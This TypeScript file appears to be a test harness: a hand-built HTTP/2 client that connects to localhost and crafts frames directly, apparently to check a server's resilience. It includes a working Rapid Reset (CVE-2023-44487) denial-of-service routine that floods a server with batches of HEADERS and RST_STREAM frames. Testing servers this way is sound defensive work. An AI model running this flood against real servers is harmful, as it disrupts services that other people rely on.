import tls from 'node:tls';

/**
 * A hand-made HTTP/2 client over `tls.connect` that writes frames byte by byte (RFC 9113 §4), for
 * what Node's own client refuses to send: connection-specific fields, floods of resets and
 * CONTINUATION frames. HPACK here is literal fields only (RFC 7541 §6.2.2), never Huffman.
 */
export const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
export const TYPE = {
  DATA: 0,
  HEADERS: 1,
  RST_STREAM: 3,
  SETTINGS: 4,
  PING: 6,
  GOAWAY: 7,
  CONTINUATION: 9,
} as const;
export const FLAG = { END_STREAM: 0x1, END_HEADERS: 0x4, ACK: 0x1 } as const;

export function frame(
  type: number,
  flags: number,
  stream: number,
  payload: Buffer = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

function length(n: number): Buffer {
  if (n < 127) return Buffer.from([n]);
  const out = [127];
  let rest = n - 127;
  while (rest >= 128) {
    out.push((rest % 128) + 128);
    rest = Math.floor(rest / 128);
  }
  out.push(rest);
  return Buffer.from(out);
}

/** A header block of literal fields without indexing, new names (RFC 7541 §6.2.2). */
export function block(fields: ReadonlyArray<readonly [string, string]>): Buffer {
  return Buffer.concat(
    fields.flatMap(([name, value]) => [
      Buffer.from([0]),
      length(Buffer.byteLength(name)),
      Buffer.from(name, 'latin1'),
      length(Buffer.byteLength(value)),
      Buffer.from(value, 'latin1'),
    ]),
  );
}

export const request = (path: string, extra: ReadonlyArray<readonly [string, string]> = []) =>
  block([[':method', 'GET'], [':scheme', 'https'], [':authority', 'localhost'], [':path', path], ...extra]);

export interface ParsedFrame {
  readonly type: number;
  readonly flags: number;
  readonly stream: number;
  readonly payload: Buffer;
}

/** A TLS connection speaking h2 by ALPN, with the frames it received so far. */
export interface RawH2 {
  readonly socket: tls.TLSSocket;
  readonly frames: ParsedFrame[];
  readonly closed: Promise<void>;
  send(...frames: Buffer[]): boolean;
  /** Resolves with the first received frame that satisfies `test` (or null when the connection closes). */
  until(test: (f: ParsedFrame) => boolean, timeoutMs?: number): Promise<ParsedFrame | null>;
}

export async function connectH2(port: number, ca: string): Promise<RawH2> {
  const socket = tls.connect({ host: '127.0.0.1', port, ca, servername: 'localhost', ALPNProtocols: ['h2'] });
  await new Promise<void>((resolve, reject) => {
    socket.once('secureConnect', () => resolve());
    socket.once('error', reject);
  });
  const frames: ParsedFrame[] = [];
  let pending = Buffer.alloc(0);
  const waiters: Array<() => void> = [];
  const wake = () => {
    for (const w of waiters.splice(0)) w();
  };
  socket.on('data', (chunk: Buffer) => {
    pending = Buffer.concat([pending, chunk]);
    while (pending.length >= 9) {
      const len = pending.readUIntBE(0, 3);
      if (pending.length < 9 + len) break;
      frames.push({
        type: pending[3] as number,
        flags: pending[4] as number,
        stream: pending.readUInt32BE(5) & 0x7fffffff,
        payload: pending.subarray(9, 9 + len),
      });
      pending = pending.subarray(9 + len);
    }
    wake();
  });
  socket.on('error', () => {});
  const closed = new Promise<void>((resolve) =>
    socket.once('close', () => {
      wake();
      resolve();
    }),
  );
  socket.write(Buffer.concat([PREFACE, frame(TYPE.SETTINGS, 0, 0)]));
  return {
    socket,
    frames,
    closed,
    send: (...f) => (socket.destroyed ? false : socket.write(Buffer.concat(f))),
    async until(test, timeoutMs = 5000) {
      const deadline = Date.now() + timeoutMs;
      for (;;) {
        const hit = frames.find(test);
        if (hit !== undefined) return hit;
        if (socket.destroyed || Date.now() > deadline) return null;
        await new Promise<void>((resolve) => {
          waiters.push(resolve);
          setTimeout(resolve, 50);
        });
      }
    },
  };
}

/** RST_STREAM's CANCEL error code, as its payload. */
export const CANCEL = Buffer.from([0, 0, 0, 8]);

/**
 * Rapid reset (CVE-2023-44487): HEADERS then RST_STREAM for new streams, 100 a batch, for up to 200
 * batches or until the connection closes; resolves on GOAWAY or close (or after 10 s).
 */
export async function rapidReset(conn: RawH2, headers: Buffer): Promise<void> {
  let id = 1;
  for (let round = 0; round < 200 && !conn.socket.destroyed; round++) {
    const batch: Buffer[] = [];
    for (let i = 0; i < 100; i++, id += 2) {
      batch.push(
        frame(TYPE.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, headers),
        frame(TYPE.RST_STREAM, 0, id, CANCEL),
      );
    }
    conn.send(...batch);
    await new Promise((r) => setImmediate(r));
  }
  await Promise.race([conn.closed, conn.until((f) => f.type === TYPE.GOAWAY, 10_000)]);
}
